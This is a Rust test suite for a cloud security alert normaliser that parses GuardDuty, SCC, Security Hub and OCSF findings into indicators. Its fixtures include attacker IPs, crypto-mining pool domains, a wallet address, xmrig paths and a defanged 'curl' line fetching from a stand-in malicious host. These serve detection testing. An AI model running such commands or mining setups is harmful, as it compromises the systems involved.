use super::*;
use crate::{CloudProvider, Severity};

#[test]
fn guardduty_credential_exfiltration_says_who_what_and_where() {
    let alert = one(sample("guardduty-eventbridge-credential-exfiltration"));
    assert_eq!(
        alert.key.to_string(),
        "guardduty/444455556666/a4c9b1d2e3f405162738495a6b7c8d9e"
    );
    assert_eq!(
        (
            alert.feed.as_str(),
            alert.severity,
            alert.severity_sent.as_str()
        ),
        ("guardduty", Severity::High, "8")
    );
    assert_eq!(alert.action.as_deref(), Some("AWS_API_CALL ListBuckets"));
    assert_eq!(
        (alert.provider, alert.region.as_deref(), alert.count),
        (CloudProvider::Aws, Some("eu-west-1"), 14)
    );
    assert!(has(
        &alert,
        IndicatorKind::Ip,
        IndicatorRole::Actor,
        "203.0.113.42"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Principal,
        IndicatorRole::Actor,
        "prod-payments-worker"
    ));
    assert!(has(
        &alert,
        IndicatorKind::AccessKey,
        IndicatorRole::Actor,
        "ASIAEXAMPLEKEY000001"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Instance,
        IndicatorRole::Target,
        "i-0a1b2c3d4e5f60718"
    ));
    assert_eq!(alert.subject(), Some("prod-payments-worker"));
    assert_eq!(alert.resources[1].tags["owner"], "team-payments");
    assert!(!alert.is_sample());
}

#[test]
fn guardduty_samples_say_so_in_three_places() {
    let alert = one(sample("guardduty-eventbridge-dns"));
    assert!(alert.is_sample());
    assert_eq!(alert.action.as_deref(), Some("DNS_REQUEST"));
    assert!(has(
        &alert,
        IndicatorKind::Domain,
        IndicatorRole::Remote,
        "3322.org"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Instance,
        IndicatorRole::Target,
        "i-11111111"
    ));
    for info in [
        json!({"sample": true, "value": "{}"}),
        json!({"value": {"sample": true}}),
    ] {
        let mut value = parsed("guardduty-eventbridge-credential-exfiltration");
        value["detail"]["service"]["additionalInfo"] = info;
        assert!(one_of(&value).is_sample());
    }
    let mut value = parsed("guardduty-eventbridge-credential-exfiltration");
    value["detail"]["title"] = json!("[SAMPLE] Credentials were used.");
    assert!(one_of(&value).is_sample());
}

#[test]
fn scc_crypto_miner_names_pool_wallet_process_and_caller() {
    let alert = one(sample("scc-crypto-miner"));
    assert_eq!(
        alert.key.to_string(),
        "scc/production-project-12345/b9c8d7e6f5a4b3c2d1e0"
    );
    assert_eq!(alert.account.as_deref(), Some("production-project-12345"));
    assert_eq!(
        (alert.severity, alert.provider),
        (Severity::Critical, CloudProvider::Gcp)
    );
    assert_eq!(alert.region.as_deref(), Some("us-central1-a"));
    assert_eq!(alert.class_sent.as_deref(), Some("THREAT"));
    assert_eq!(alert.action.as_deref(), Some("v1.compute.instances.start"));
    assert_eq!(alert.subject(), Some("web-server-prod-01"));
    assert_eq!(
        alert
            .techniques
            .iter()
            .map(|t| t.id.as_str())
            .collect::<Vec<_>>(),
        ["T1496"]
    );
    for (kind, role, value) in [
        (IndicatorKind::Ip, IndicatorRole::Actor, "185.220.101.42"),
        (
            IndicatorKind::Principal,
            IndicatorRole::Actor,
            "attacker@external-domain.com",
        ),
        (
            IndicatorKind::Instance,
            IndicatorRole::Target,
            "web-server-prod-01",
        ),
        (IndicatorKind::Ip, IndicatorRole::Remote, "195.123.245.89"),
        (
            IndicatorKind::Domain,
            IndicatorRole::Remote,
            "pool.minexmr.com",
        ),
        (
            IndicatorKind::Domain,
            IndicatorRole::Remote,
            "xmr-pool-eu.hashvault.pro",
        ),
        (
            IndicatorKind::Url,
            IndicatorRole::Remote,
            "stratum+tcp://pool.minexmr.com:4444",
        ),
        (
            IndicatorKind::Domain,
            IndicatorRole::Related,
            "malicious-cdn.com",
        ),
        (IndicatorKind::Process, IndicatorRole::Related, "xmrig"),
        (
            IndicatorKind::File,
            IndicatorRole::Related,
            "/tmp/.xmrig/xmrig",
        ),
        (
            IndicatorKind::Container,
            IndicatorRole::Target,
            "xmrig-miner",
        ),
        (IndicatorKind::Cve, IndicatorRole::Related, "CVE-2023-32784"),
        (
            IndicatorKind::Wallet,
            IndicatorRole::Related,
            "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge",
        ),
    ] {
        assert!(
            has(&alert, kind, role, value),
            "{kind} {value}: {:#?}",
            alert.indicators
        );
    }
}

#[test]
fn a_finding_that_changed_since_began_when_it_was_made() {
    let mut value = parsed("scc-crypto-miner");
    let mut window = |finding: [(&str, Value); 2]| {
        for (name, time) in finding {
            value["finding"][name] = time;
        }
        let (from, until) = one_of(&value).times.window().unwrap();
        format!("{} {}", from.format("%H:%M"), until.format("%H:%M"))
    };
    let at = |hour: u8| json!(format!("2026-10-02T{hour:02}:00:00Z"));
    assert_eq!(
        window([("createTime", at(2)), ("eventTime", at(1))]),
        "01:00 01:00"
    );
    assert_eq!(
        window([("createTime", at(2)), ("eventTime", at(5))]),
        "02:00 05:00"
    );

    let mut value = parsed("securityhub-eventbridge-discovery");
    let finding = value["detail"]["findings"][0].as_object_mut().unwrap();
    finding.retain(|name, _| !name.ends_with("ObservedAt"));
    finding.insert("CreatedAt".to_owned(), at(1));
    finding.insert("UpdatedAt".to_owned(), at(6));
    let (from, until) = one_of(&value).times.window().unwrap();
    assert_eq!((until - from).num_hours(), 5, "when it ended is not told");
}

#[test]
fn scc_v2_and_another_parent_keep_key_and_content() {
    let v1 = one(sample("scc-crypto-miner"));
    for name in [
        "organizations/123456789012/sources/1234567890123456789/locations/global/findings/b9c8d7e6f5a4b3c2d1e0",
        "projects/783957204773/sources/1234567890123456789/locations/global/findings/b9c8d7e6f5a4b3c2d1e0",
    ] {
        let mut value = parsed("scc-crypto-miner");
        value["finding"]["name"] = json!(name);
        value["resource"] = json!({
            "name": value["resource"]["name"], "cloudProvider": "GOOGLE_CLOUD_PLATFORM", "location": "us-central1-a",
            "gcpMetadata": {"project": "projects/783957204773", "projectDisplayName": "production-project-12345"},
        });
        let v2 = one_of(&value);
        assert_eq!((&v2.key, &v2.content), (&v1.key, &v1.content));
        let bare = one_of(&value["finding"]);
        assert_eq!((&bare.key, &bare.content), (&v1.key, &v1.content));
    }
    let mut organisation = parsed("scc-crypto-miner");
    organisation["finding"]["resourceName"] =
        json!("//cloudresourcemanager.googleapis.com/organizations/123456789012");
    assert_eq!(one_of(&organisation).key.account, "123456789012");
}

#[test]
fn security_hub_takes_the_key_and_type_of_the_product_inside() {
    let alert = one(sample("securityhub-eventbridge-discovery"));
    assert_eq!(alert.feed, "security_hub");
    assert_eq!(alert.key.to_string(), "guardduty/444455556666/b7d1");
    assert_eq!(alert.kind, "Discovery:IAMUser/AnomalousBehavior");
    assert_eq!((alert.severity, alert.count), (Severity::Medium, 6));
    assert!(has(
        &alert,
        IndicatorKind::Ip,
        IndicatorRole::Actor,
        "198.51.100.23"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Principal,
        IndicatorRole::Actor,
        "ci-deployer"
    ));
    assert!(has(
        &alert,
        IndicatorKind::AccessKey,
        IndicatorRole::Actor,
        "AKIAEXAMPLE00000001"
    ));

    let mut value = parsed("securityhub-eventbridge-discovery");
    for (asff, guardduty) in [
        (
            "TTPs/Command and Control/CryptoCurrency:EC2-BitcoinTool.B!DNS",
            "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        ),
        (
            "TTPs/Defense Evasion/IAMUser-AnomalousBehavior",
            "DefenseEvasion:IAMUser/AnomalousBehavior",
        ),
        (
            "Effects/Data Exfiltration/UnauthorizedAccess:IAMUser-InstanceCredentialExfiltration.OutsideAWS",
            "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
        ),
        (
            "TTPs/Discovery:S3-MaliciousIPCaller",
            "Discovery:S3/MaliciousIPCaller",
        ),
    ] {
        value["detail"]["findings"][0]["Types"] = json!([asff]);
        assert_eq!(one_of(&value).kind, guardduty);
    }
}

#[test]
fn another_product_in_security_hub_keeps_its_own_key() {
    let alert = one_of(&json!({
        "SchemaVersion": "2018-10-08", "Id": "arn:aws:inspector2:eu-west-1:444455556666:finding/abc",
        "ProductArn": "arn:aws:securityhub:eu-west-1::product/aws/inspector", "AwsAccountId": "444455556666",
        "GeneratorId": "AWSInspector", "Types": ["Software and Configuration Checks/Vulnerabilities/CVE"],
        "Severity": {"Label": "CRITICAL", "Normalized": 90}, "Title": "CVE-2024-3094 - xz", "Description": "",
        "Resources": [{"Type": "AwsEc2Instance", "Id": "arn:aws:ec2:eu-west-1:444455556666:instance/i-1"}],
        "Vulnerabilities": [{"Id": "CVE-2024-3094"}], "RecordState": "ARCHIVED", "Workflow": {"Status": "SUPPRESSED"},
    }));
    assert_eq!(alert.key.product, "inspector");
    assert_eq!(alert.severity, Severity::Critical);
    assert!(alert.state.archived && alert.state.suppressed);
    assert!(has(
        &alert,
        IndicatorKind::Cve,
        IndicatorRole::Related,
        "CVE-2024-3094"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Instance,
        IndicatorRole::Target,
        "i-1"
    ));
}

#[test]
fn ocsf_impossible_travel_has_user_and_both_addresses() {
    let alert = one(sample("ocsf-impossible-travel"));
    assert_eq!(
        alert.key.to_string(),
        "identity_threat_detection/444455556666/idtd-2026-000771"
    );
    assert_eq!(
        (alert.kind.as_str(), alert.severity),
        ("Identity", Severity::High)
    );
    assert_eq!(alert.provider, CloudProvider::Aws);
    assert!(has(
        &alert,
        IndicatorKind::Ip,
        IndicatorRole::Actor,
        "198.51.100.77"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Ip,
        IndicatorRole::Related,
        "192.0.2.14"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Principal,
        IndicatorRole::Actor,
        "maria.lopez"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Principal,
        IndicatorRole::Target,
        "maria.lopez"
    ));
    assert_eq!(alert.techniques[0].id, "T1078");
    assert_eq!(
        alert.times.first_seen.unwrap().to_rfc3339(),
        "2026-03-02T02:38:00+00:00"
    );
}

#[test]
fn states_at_the_feed_are_read() {
    let state = |name: &str, pointer: &str, value: Value| {
        let mut message = parsed(name);
        let (parent, key) = pointer.rsplit_once('/').unwrap();
        message.pointer_mut(parent).unwrap()[key] = value;
        one_of(&message).state
    };
    assert!(state("guardduty-finding", "/Service/Archived", json!(true)).archived);
    assert!(state("scc-crypto-miner", "/finding/state", json!("INACTIVE")).inactive);
    assert!(state("scc-crypto-miner", "/finding/mute", json!("MUTED")).suppressed);
    let hub = "securityhub-eventbridge-discovery";
    assert!(state(hub, "/detail/findings/0/RecordState", json!("ARCHIVED")).archived);
    assert!(state(hub, "/detail/findings/0/Workflow/Status", json!("RESOLVED")).resolved);
    assert!(
        state(
            hub,
            "/detail/findings/0/Workflow/Status",
            json!("SUPPRESSED")
        )
        .suppressed
    );
    assert!(state("ocsf-impossible-travel", "/status_id", json!(3)).suppressed);
    assert!(state("ocsf-impossible-travel", "/status_id", json!(4)).resolved);
    assert!(state("ocsf-impossible-travel", "/status_id", json!(5)).archived);
}

#[test]
fn severities_come_as_fractions_and_words() {
    let severity = |value: Value| {
        let mut message = parsed("guardduty-finding");
        message["Severity"] = value;
        let alert = one_of(&message);
        (alert.severity, alert.severity_sent)
    };
    assert_eq!(severity(json!(5.3)), (Severity::Medium, "5.3".to_owned()));
    assert_eq!(severity(json!(3.9)).0, Severity::Low);
    assert_eq!(severity(json!(6.9)).0, Severity::Medium);
    assert_eq!(severity(json!(9)).0, Severity::Critical);
    assert_eq!(severity(json!("8")).0, Severity::High);
    // A missing severity must not hide an alert.
    assert_eq!(severity(json!(null)).0, Severity::Medium);
    let mut scc = parsed("scc-crypto-miner");
    scc["finding"]["severity"] = json!("SEVERITY_UNSPECIFIED");
    assert_eq!(one_of(&scc).severity, Severity::Medium);
}

#[test]
fn a_runtime_finding_has_an_empty_action_and_a_process() {
    let mut value = parsed("guardduty-eventbridge-credential-exfiltration");
    let detail = &mut value["detail"];
    detail["type"] = json!("CryptoCurrency:Runtime/BitcoinTool.B");
    detail["resource"] = json!({
        "resourceType": "EKSCluster", "accessKeyDetails": null,
        "eksClusterDetails": {"name": "prod", "arn": "arn:aws:eks:eu-west-1:444455556666:cluster/prod", "tags": []},
        "kubernetesDetails": {"kubernetesUserDetails": null, "kubernetesWorkloadDetails": {
            "name": "web", "type": "deployments", "namespace": "shop",
            "containers": [{"name": "app", "image": "registry.example.com/app:1"}]}},
    });
    detail["service"]["action"] = json!({});
    detail["service"]["runtimeDetails"] = json!({
        "process": {"name": "xmrig", "executablePath": "/tmp/xmrig", "executableSha256": "AB".repeat(32),
            "lineage": [{"name": "bash", "executablePath": "/bin/bash"}]},
        "context": {"commandLineExample": "curl hxxp://dl[.]evil-miner[.]com/x"},
    });
    detail["createdAt"] = json!(1_772_419_272.118);
    let alert = one_of(&value);
    assert_eq!(alert.action.as_deref(), Some("RUNTIME xmrig"));
    assert_eq!(alert.resources[0].kind, "EKSCluster");
    assert!(has(
        &alert,
        IndicatorKind::Cluster,
        IndicatorRole::Target,
        "prod"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Container,
        IndicatorRole::Target,
        "shop/web"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Image,
        IndicatorRole::Related,
        "registry.example.com/app:1"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Hash,
        IndicatorRole::Related,
        &"ab".repeat(32)
    ));
    assert!(has(
        &alert,
        IndicatorKind::File,
        IndicatorRole::Related,
        "/tmp/xmrig"
    ));
    assert!(has(
        &alert,
        IndicatorKind::Domain,
        IndicatorRole::Related,
        "dl.evil-miner.com"
    ));
    assert_eq!(
        alert.times.created.unwrap().to_rfc3339(),
        "2026-03-02T02:41:12.118+00:00"
    );
}
